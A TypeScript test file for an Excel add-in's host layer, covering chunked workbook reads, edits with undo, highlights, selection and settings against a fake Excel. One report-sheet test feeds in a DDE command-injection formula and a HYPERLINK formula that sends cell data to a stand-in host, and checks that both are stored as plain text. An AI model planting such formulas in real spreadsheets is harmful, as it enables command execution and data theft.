/**
 * ExcelHost against the strict fake (testing/fake-excel.ts) at the requirement sets Excel versions
 * really have: 1.4 (Excel 2016), 1.8, 1.9 (Excel 2019), 1.13 and the latest this office.js knows.
 */
import { toHostError } from './errors';
import { HIGHLIGHT_FILLS_SETTING } from '../../core/settings';
import { settingsXml } from '../../core/settings/xml';
import { ExcelHost, HIGHLIGHT_COLORS } from './excel-host';
import { batchChunks, parseAreas, planChunks, splitAddress, splitBatch } from './read-plan';
import { FakeExcel, numberSheet, type FakeCell, type FakeSheet } from './testing/fake-excel';

beforeAll(() => {
  (globalThis as unknown as { Office: unknown }).Office = {
    AsyncResultStatus: { Succeeded: 'succeeded', Failed: 'failed' },
    EventType: { DocumentSelectionChanged: 'documentSelectionChanged' },
  };
});

const LEVELS = ['1.4', '1.8', '1.9', '1.13', 'latest'];
const flush = () => new Promise((resolve) => setTimeout(resolve, 10));

function sheetOf(name: string, cells: Record<string, Partial<FakeCell>>, extra: Partial<FakeSheet> = {}): FakeSheet {
  return { name, cells: new Map(Object.entries(cells).map(([a1, cell]) => [a1, { value: '', ...cell }])), ...extra };
}

function budgetWorkbook(rowsPerSheet: number): FakeSheet[] {
  return Array.from({ length: 13 }, (_, index) => numberSheet(`表${index + 1}`, rowsPerSheet, 8));
}

describe.each(LEVELS)('ExcelHost at ExcelApi %s', (level) => {
  const excelOf = (sheets: FakeSheet[], options: { payloadLimit?: number } = {}) => new FakeExcel(sheets, { level, ...options });
  const atLeast = (version: string) => new FakeExcel([], { level }).supports(version);

  describe('reading', () => {
    it('reads a 13-sheet workbook in 3 syncs whatever the row count', async () => {
      const counts: number[] = [];
      for (const rows of [20, 400]) {
        const excel = excelOf(budgetWorkbook(rows));
        const grid = await new ExcelHost(excel.env()).readGrid();
        expect(grid.sheets).toHaveLength(13);
        expect(grid.sheets[12].rows[rows - 1]?.[7]).toEqual({ v: (rows - 1) * 100 + 7, t: `${(rows - 1) * 100 + 7}.00`, nf: '0.00' });
        counts.push(excel.syncs);
      }
      expect(counts).toEqual([3, 3]);
    });

    it('reads big sheets in row chunks, keeping each sync under the payload budget', async () => {
      const excel = excelOf([numberSheet('大表', 12_000, 10)]);
      const progress: string[] = [];
      const grid = await new ExcelHost(excel.env()).readGrid({ onProgress: ({ done, total }) => progress.push(`${done}/${total}`) });
      expect(excel.syncs).toBe(5);
      expect(excel.maxCellsPerSync).toBeLessThanOrEqual(50_000);
      expect(progress).toEqual(['0/3', '1/3', '2/3', '3/3']);
      expect(grid.sheets[0].rows[11_999]?.[9]?.v).toBe(1_199_909);
    });

    it('keeps formulas, number formats, shown text, errors and merges; skips empty cells', async () => {
      const sheet = sheetOf(
        "单位 '表'",
        {
          A1: { value: '2026年预算收支总表' },
          C3: { value: 1234.5, formula: '=C4+C5', format: '#,##0.00' },
          D3: { value: '#REF!', error: true, formula: '=#REF!+1' },
          E3: { value: '', fill: '#FF0000' },
        },
        { merges: ['A1:F1', 'A2:A3'] },
      );
      const grid = await new ExcelHost(excelOf([sheet]).env()).readGrid();
      const [read] = grid.sheets;
      expect(read.rows[2]?.[2]).toEqual({ v: 1234.5, t: '1,234.50', f: '=C4+C5', nf: '#,##0.00' });
      expect(read.rows[2]?.[3]).toMatchObject({ v: null, err: '#REF!' });
      expect(read.rows[2]?.[4]).toBeUndefined();
      // Both areas of a sheet whose quoted name doubles its apostrophe.
      expect(read.merges).toEqual(
        atLeast('1.13')
          ? [
              { top: 0, left: 0, bottom: 0, right: 5 },
              { top: 1, left: 0, bottom: 2, right: 0 },
            ]
          : [],
      );
    });

    it('reads hidden rows and columns, as the .xlsx reader does', async () => {
      const sheet = numberSheet('表1', 30, 6);
      sheet.hiddenRows = [4, 5, 20];
      sheet.hiddenColumns = [2];
      const grid = await new ExcelHost(excelOf([sheet, numberSheet('表2', 5, 3)]).env()).readGrid();
      expect(grid.sheets[0].hiddenRows).toEqual([4, 5, 20]);
      expect(grid.sheets[0].hiddenCols).toEqual([2]);
      expect(grid.sheets[1].hiddenRows).toBeUndefined();
    });

    it('finds the table when one stray value sits at XFD1048576, in a few syncs', async () => {
      const sheet = numberSheet('表1', 40, 6);
      sheet.cells.set('XFD1048576', { value: '孤立' });
      const excel = excelOf([sheet]);
      const grid = await new ExcelHost(excel.env()).readGrid();
      expect(grid.sheets[0].rows[39]?.[5]?.v).toBe(3905);
      expect(grid.sheets[0].rows[1_048_575]?.[16_383]?.v).toBe('孤立');
      expect(excel.syncs).toBeLessThanOrEqual(5);
      expect(excel.loadedCells).toBeLessThan(1_000);
    });

    it('refuses with a message, before reading cells, a workbook with more values than it can check', async () => {
      const excel = excelOf([numberSheet('表1', 60, 40)]);
      await expect(new ExcelHost(excel.env(), { maxReadCells: 1_000 }).readGrid()).rejects.toThrow(/^读取工作簿失败：工作表“表1”中有数据的区域（A1:AN60）过大.*超过一次可检查的 1000 个/);
      expect(excel.loadedCells).toBe(0);
    });

    it('splits a batch Excel refuses as too large (long texts) and reads it again', async () => {
      const sheet: FakeSheet = { name: '说明', cells: new Map() };
      for (let r = 1; r <= 400; r++) sheet.cells.set(`A${r}`, { value: `第${r}段：${'预算说明文字'.repeat(400)}` });
      const excel = excelOf([sheet], { payloadLimit: 1_000_000 });
      const grid = await new ExcelHost(excel.env()).readGrid();
      expect(grid.sheets[0].rows[399]?.[0]?.v).toMatch(/^第400段/);
      expect(grid.sheets[0].rows.filter(Boolean)).toHaveLength(400);
    });

    it('names the workbook where Excel can (ExcelApi 1.7)', async () => {
      const grid = await new ExcelHost(excelOf([numberSheet('表1', 2, 2)]).env()).readGrid();
      expect(grid.name).toBe(atLeast('1.7') ? '测试工作簿.xlsx' : undefined);
    });

    it('stops when cancelled', async () => {
      const controller = new AbortController();
      const reading = new ExcelHost(excelOf(budgetWorkbook(10)).env()).readGrid({ signal: controller.signal, onProgress: () => controller.abort() });
      await expect(reading).rejects.toThrow('已取消');
    });
  });

  describe('edits and undo', () => {
    const workbook = () =>
      excelOf([
        sheetOf('表3', {
          C9: { value: 381.16 },
          C10: { value: 5, formula: '=C11+C12' },
          C11: { value: 2 },
          C12: { value: 3 },
          E1: { value: '', format: '@' },
        }),
      ]);

    it('applies a batch in one write sync, records previous values and formulas, and undoes it', async () => {
      const excel = workbook();
      const host = new ExcelHost(excel.env());
      const record = await host.applyEdits(
        [
          { sheet: '表3', cell: 'C9', value: 380.16 },
          { sheet: '表3', cell: 'C10', value: 7 },
          { sheet: '表3', cell: 'D2', value: 'B0701' },
        ],
        '修复：表3 C9',
      );
      expect(excel.cell('表3', 'C9')?.value).toBe(380.16);
      expect([excel.cell('表3', 'C10')?.value, excel.cell('表3', 'C10')?.formula]).toEqual([7, undefined]);
      expect(record.previous).toEqual([
        { sheet: '表3', cell: 'C9', value: 381.16 },
        { sheet: '表3', cell: 'C10', value: 5, formula: '=C11+C12' },
        { sheet: '表3', cell: 'D2', value: null },
      ]);
      await expect(host.revert(record)).resolves.toEqual({ restored: 3, kept: [] });
      expect(excel.cell('表3', 'C9')?.value).toBe(381.16);
      expect(excel.cell('表3', 'C10')?.formula).toBe('=C11+C12');
      expect(excel.cell('表3', 'D2')).toBeUndefined();
      expect(excel.bindings.size).toBe(0);
    });

    it('writes text as text: codes, leading zeros, +, -, =, @, booleans, dates and apostrophes', async () => {
      const excel = workbook();
      const texts = ['2010601', '06', '+1', '-x', '=1+1', '@SUM(1)', 'TRUE', '1/2', "'引号", 'B0701', '行政运行', '#N/A'];
      await new ExcelHost(excel.env()).applyEdits(
        texts.map((value, index) => ({ sheet: '表3', cell: `A${index + 1}`, value })),
        '插入编码',
      );
      const cells = texts.map((_, index) => excel.cell('表3', `A${index + 1}`));
      expect(cells.map((cell) => cell?.value)).toEqual(texts);
      expect(cells.every((cell) => !cell?.formula && !cell?.error)).toBe(true);
      // A cell formatted as Text takes the string as it is, without an apostrophe.
      await new ExcelHost(excel.env()).applyEdits([{ sheet: '表3', cell: 'E1', value: '06' }], '填入');
      expect(excel.cell('表3', 'E1')).toMatchObject({ value: '06', format: '@' });
      expect(excel.cell('表3', 'E1')?.prefixed).toBeUndefined();
    });

    it('restores text that looked like a number as text on undo', async () => {
      const excel = excelOf([sheetOf('表1', { A1: { value: '06', prefixed: true } })]);
      const host = new ExcelHost(excel.env());
      await host.revert(await host.applyEdits([{ sheet: '表1', cell: 'A1', value: 6 }], '改'));
      expect(excel.cell('表1', 'A1')?.value).toBe('06');
    });

    it('changes nothing on a missing sheet, a protected sheet, a bad or out-of-range address', async () => {
      const excel = workbook();
      const host = new ExcelHost(excel.env());
      await expect(
        host.applyEdits(
          [
            { sheet: '表3', cell: 'C9', value: 1 },
            { sheet: '表9', cell: 'A1', value: 1 },
          ],
          '修复',
        ),
      ).rejects.toThrow(/找不到对应的工作表/);
      excel.sheets[0].protected = true;
      await expect(host.applyEdits([{ sheet: '表3', cell: 'C9', value: 1 }], '修复')).rejects.toThrow('工作表“表3”受保护，修改未执行');
      excel.sheets[0].protected = false;
      const syncs = excel.syncs;
      for (const cell of ['九', 'A1048577', 'XFE1', 'A0']) {
        await expect(
          host.applyEdits(
            [
              { sheet: '表3', cell: 'C9', value: 1 },
              { sheet: '表3', cell, value: 1 },
            ],
            '修复',
          ),
        ).rejects.toThrow(`单元格地址“${cell}”无效`);
      }
      expect(excel.syncs).toBe(syncs);
      expect(excel.cell('表3', 'C9')?.value).toBe(381.16);
    });

    it('rolls back the cells already written when Excel rejects the batch part-way', async () => {
      const excel = workbook();
      excel.failWrites('InvalidOperationInCellEditMode');
      const host = new ExcelHost(excel.env());
      await expect(
        host.applyEdits(
          [
            { sheet: '表3', cell: 'C9', value: 1 },
            { sheet: '表3', cell: 'C10', value: 2 },
          ],
          '修复',
        ),
      ).rejects.toThrow('修改单元格失败：Excel 正处于单元格编辑状态。请按 Enter 或 Esc 结束编辑后再试。');
      expect(excel.cell('表3', 'C9')?.value).toBe(381.16);
      expect(excel.cell('表3', 'C10')?.formula).toBe('=C11+C12');
    });

    it('reports a rollback that fails too, naming the cells that may be half-changed', async () => {
      const excel = workbook();
      excel.failWrites('InvalidOperationInCellEditMode');
      excel.failWrites('GeneralException', 0);
      const host = new ExcelHost(excel.env());
      await expect(
        host.applyEdits(
          [
            { sheet: '表3', cell: 'C9', value: 1 },
            { sheet: '表3', cell: 'C11', value: 2 },
          ],
          '修复',
        ),
      ).rejects.toThrow(/^修改单元格失败：Excel 正处于单元格编辑状态.*恢复原值时也出错.*表3!C9、表3!C11/);
      expect(excel.cell('表3', 'C9')?.value).toBe(1);
    });

    it('leaves, and names, a cell the user changed after the fix; restores the others', async () => {
      const excel = workbook();
      const host = new ExcelHost(excel.env());
      const record = await host.applyEdits(
        [
          { sheet: '表3', cell: 'C9', value: 380.16 },
          { sheet: '表3', cell: 'C11', value: 4 },
        ],
        '修复',
      );
      await excel.userEdit('表3', 'C9', '999');
      await expect(host.revert(record)).resolves.toEqual({ restored: 1, kept: [{ sheet: '表3', cell: 'C9', reason: '修复后又被修改' }] });
      expect(excel.cell('表3', 'C9')?.value).toBe(999);
      expect(excel.cell('表3', 'C11')?.value).toBe(2);
    });

    it('undoes the right cells after rows were inserted above them, formulas included', async () => {
      const excel = workbook();
      const host = new ExcelHost(excel.env());
      const record = await host.applyEdits(
        [
          { sheet: '表3', cell: 'C9', value: 380.16 },
          { sheet: '表3', cell: 'C10', formula: '=C11*2' },
        ],
        '修复',
      );
      excel.insertRows('表3', 2, 3);
      expect(excel.cell('表3', 'C13')?.formula).toBe('=C14*2');
      await expect(host.revert(record)).resolves.toEqual({ restored: 2, kept: [] });
      expect(excel.cell('表3', 'C12')?.value).toBe(381.16);
      expect(excel.cell('表3', 'C13')?.formula).toBe('=C14+C15');
      expect(excel.cell('表3', 'C9')).toBeUndefined();
    });
  });

  describe('highlights', () => {
    it('highlights cells and restores their own fills on clear', async () => {
      const excel = excelOf([sheetOf('表1', { A1: { value: 1, fill: '#00FF00' }, B1: { value: 2 } })]);
      const host = new ExcelHost(excel.env());
      await host.highlight([
        { sheet: '表1', cell: 'A1:B1', severity: 'error' },
        { sheet: '表1', cell: 'A1', severity: 'warning' },
      ]);
      expect(excel.cell('表1', 'A1')?.fill).toBe(HIGHLIGHT_COLORS.warning);
      expect(excel.cell('表1', 'B1')?.fill).toBe(HIGHLIGHT_COLORS.error);
      expect(Object.values(excel.settings.get(HIGHLIGHT_FILLS_SETTING) as object)).toEqual([{ color: '#00FF00' }, { none: true }]);
      // A second highlight must not take the highlight colour for the user's own fill.
      await host.highlight([{ sheet: '表1', cell: 'A1', severity: 'info' }]);
      await host.clearHighlights();
      expect(excel.cell('表1', 'A1')?.fill).toBe('#00FF00');
      expect(excel.cell('表1', 'B1')?.fill).toBeUndefined();
      expect(excel.settings.get(HIGHLIGHT_FILLS_SETTING)).toEqual({});
      expect(excel.bindings.size).toBe(0);
    });

    it('clears the highlighted cells where they moved when rows were inserted, not their old addresses', async () => {
      const excel = excelOf([sheetOf('表1', { C5: { value: 1 }, C6: { value: 2, fill: '#0000FF' } })]);
      const host = new ExcelHost(excel.env());
      await host.highlight([{ sheet: '表1', cell: 'C5', severity: 'error' }]);
      excel.insertRows('表1', 0, 1);
      await host.clearHighlights();
      expect(excel.cell('表1', 'C6')).toEqual({ value: 1 });
      expect(excel.cell('表1', 'C7')?.fill).toBe('#0000FF');
    });
  });

  describe('selection', () => {
    it('selects a cell on its sheet and reads the selection and its first value only', async () => {
      const excel = excelOf([numberSheet('表1', 300, 6), numberSheet("说'明", 3, 3)]);
      const host = new ExcelHost(excel.env());
      await host.selectCell({ sheet: "说'明", cell: 'B2' });
      expect(excel.selection).toEqual({ sheet: "说'明", address: 'B2' });
      await expect(host.getSelection()).resolves.toEqual({ sheet: "说'明", cell: 'B2', value: 101 });
      excel.selection = { sheet: '表1', address: 'A:F' };
      const before = excel.loadedCells;
      await expect(host.getSelection()).resolves.toEqual({ sheet: '表1', cell: 'A1:F1048576', value: '表1标题' });
      expect(excel.loadedCells - before).toBe(1);
    });

    it('reads the selected block once, bounded by the values in it (whole columns selected)', async () => {
      const excel = excelOf([numberSheet('表1', 300, 6)]);
      excel.selection = { sheet: '表1', address: 'B:C' };
      const selected = await new ExcelHost(excel.env()).getSelectedRange();
      expect(selected).toMatchObject({ sheet: '表1', cell: 'B2:C300' });
      expect(selected?.values).toHaveLength(299);
      expect(selected?.values[0]).toEqual([101, 102]);
      expect(excel.loadedCells).toBe(598);
    });

    it('listens to Excel only while someone listens, and not while the pane is hidden', async () => {
      const excel = excelOf([numberSheet('表1', 3, 3)]);
      let setVisible: (visible: boolean) => void = () => undefined;
      const env = { ...excel.env(), onPaneVisibility: (listener: (visible: boolean) => void) => ((setVisible = listener), () => undefined) };
      const host = new ExcelHost(env);
      const sources = () => excel.selectionHandlers.size + excel.documentHandlers.length;
      expect(sources()).toBe(0);
      const seen: string[] = [];
      const stop = host.onSelectionChanged((selection) => seen.push(`${selection.sheet}!${selection.cell}=${selection.value}`));
      await flush();
      expect(sources()).toBe(1);
      await excel.select('表1', 'B2');
      await flush();
      expect(seen).toEqual(['表1!B2=101']);
      setVisible(false);
      const loaded = excel.loadedCells;
      await excel.select('表1', 'C3');
      await flush();
      expect(excel.loadedCells).toBe(loaded);
      setVisible(true);
      await flush();
      expect(seen).toEqual(['表1!B2=101', '表1!C3=202']);
      stop();
      await flush();
      expect(sources()).toBe(0);
    });
  });

  describe('settings, report sheet and change events', () => {
    it('stores settings in the document and saves them', async () => {
      const host = new ExcelHost(excelOf([numberSheet('表1', 2, 2)]).env());
      await host.setSetting('budgetAssistant.catalogs', ['shanxi-b-2023']);
      await expect(host.getSetting('budgetAssistant.catalogs')).resolves.toEqual(['shanxi-b-2023']);
      await expect(host.getSetting('missing')).resolves.toBeUndefined();
    });

    it('reads the settings the browser page or the CLI saved in the file (custom XML part) where ExcelApi 1.5 allows; its own win', async () => {
      const excel = excelOf([numberSheet('表1', 2, 2)]);
      const ignored = { version: 1, entries: [{ key: 'meta/no-data-note|表1|A7|abc', reason: '本单位无此项收支', date: '2026-03-01' }] };
      excel.customXmlParts.push(
        { id: '{1}', xml: '<?xml version="1.0"?><settings xmlns="urn:someone-else"><setting key="budgetAssistant.profile">"shanxi"</setting></settings>' },
        {
          id: '{2}',
          xml: settingsXml(
            new Map<string, unknown>([
              ['budgetAssistant.ignored', ignored],
              ['budgetAssistant.profile', 'general'],
            ]),
          ),
        },
      );
      const host = new ExcelHost(excel.env());
      const readable = atLeast('1.5');
      await expect(host.getSetting('budgetAssistant.ignored')).resolves.toEqual(readable ? ignored : undefined);
      await expect(host.getSetting('budgetAssistant.profile')).resolves.toBe(readable ? 'general' : undefined);
      // Read once: later lookups cost no sync.
      const syncs = excel.syncs;
      await host.getSetting('budgetAssistant.catalogs');
      expect(excel.syncs).toBe(syncs);
      await host.setSetting('budgetAssistant.profile', '');
      await expect(host.getSetting('budgetAssistant.profile')).resolves.toBe('');
    });

    it('writes a report sheet with links under a free name, its text as text', async () => {
      const excel = excelOf([numberSheet('表1', 2, 2), { name: '审核报告', cells: new Map() }]);
      const quoted = ['=HYPERLINK("http://example.invalid/"&C5)', "@SUM(1+1)*cmd|' /C calc'!A0", '+1', '-1', '2010601'];
      const name = await new ExcelHost(excel.env()).writeReportSheet('审核报告', [
        { values: ['位置', '问题'] },
        { values: ['表1!B2', '合计不等'], link: { sheet: '表1', cell: 'B2' } },
        ...quoted.map((text) => ({ values: ['表1!A1', text] })),
      ]);
      expect(name).toBe('审核报告 (2)');
      expect(excel.cell('审核报告 (2)', 'B2')?.value).toBe('合计不等');
      expect(excel.cell('审核报告 (2)', 'A2')?.value).toBe('表1!B2');
      const written = quoted.map((_, index) => excel.cell('审核报告 (2)', `B${index + 3}`));
      expect(written.map((cell) => [cell?.value, cell?.formula])).toEqual(quoted.map((text) => [text, undefined]));
      expect(excel.cell('审核报告 (2)', 'A2')?.formula).toBe(atLeast('1.7') ? undefined : '=HYPERLINK("#\'表1\'!B2","表1!B2")');
    });

    it('reports user changes only (ExcelApi 1.9), ignoring its own edits', async () => {
      const excel = excelOf([numberSheet('表1', 3, 3)]);
      const host = new ExcelHost(excel.env());
      let changes = 0;
      const stop = host.onCellsChanged(() => (changes += 1));
      expect(stop !== undefined).toBe(atLeast('1.9'));
      await flush();
      await host.applyEdits([{ sheet: '表1', cell: 'B2', value: 5 }], '修复');
      for (const handler of excel.changeHandlers) await handler({ address: 'B2', worksheetId: '表1', source: 'Local', changeType: 'RangeEdited' });
      await excel.userEdit('表1', 'C3', '7');
      expect(changes).toBe(atLeast('1.9') ? 1 : 0);
    });
  });
});

describe('Office errors', () => {
  it('become Chinese messages that say what to do', () => {
    expect(toHostError({ code: 'InvalidOperationInCellEditMode' }, '修改单元格').message).toBe('修改单元格失败：Excel 正处于单元格编辑状态。请按 Enter 或 Esc 结束编辑后再试。');
    expect(toHostError({ code: 'AccessDenied' }, '修改单元格').message).toMatch(/受保护.*撤消工作表保护/);
    expect(toHostError({ code: 'RequestPayloadSizeLimitExceeded' }, '读取工作簿').message).toMatch(/^读取工作簿失败：一次要传输的数据超出了 Excel 的上限/);
    expect(toHostError(new Error('boom'), '读取工作簿').message).toBe('读取工作簿失败：发生意外错误（boom）。请重试；如反复出现，请保存并重新打开工作簿。');
  });
});

describe('read plan', () => {
  it('cuts used ranges into row chunks and groups them under the sync budget', () => {
    const chunks = planChunks([{ sheet: 0, range: { top: 2, left: 1, bottom: 2501, right: 10 } }], 10_000);
    expect(chunks.map((chunk) => chunk.address)).toEqual(['B3:K1002', 'B1003:K2002', 'B2003:K2502']);
    expect(batchChunks(chunks, 20_000).map((batch) => batch.length)).toEqual([2, 1]);
    expect(splitBatch([chunks[0]])?.map((half) => half[0].address)).toEqual(['B3:K502', 'B503:K1002']);
    expect(splitBatch([{ sheet: 0, range: { top: 0, left: 0, bottom: 0, right: 0 }, address: 'A1' }])).toBeUndefined();
  });

  it('splits sheet-qualified addresses, quoted or not', () => {
    expect(splitAddress("'预算 ''表'''!$C$9")).toEqual({ sheet: "预算 '表'", range: 'C9' });
    expect(splitAddress('表1!A1:F38')).toEqual({ sheet: '表1', range: 'A1:F38' });
    expect(parseAreas("'a''b'!A1:F1,'a''b'!A2:A3")).toHaveLength(2);
  });
});
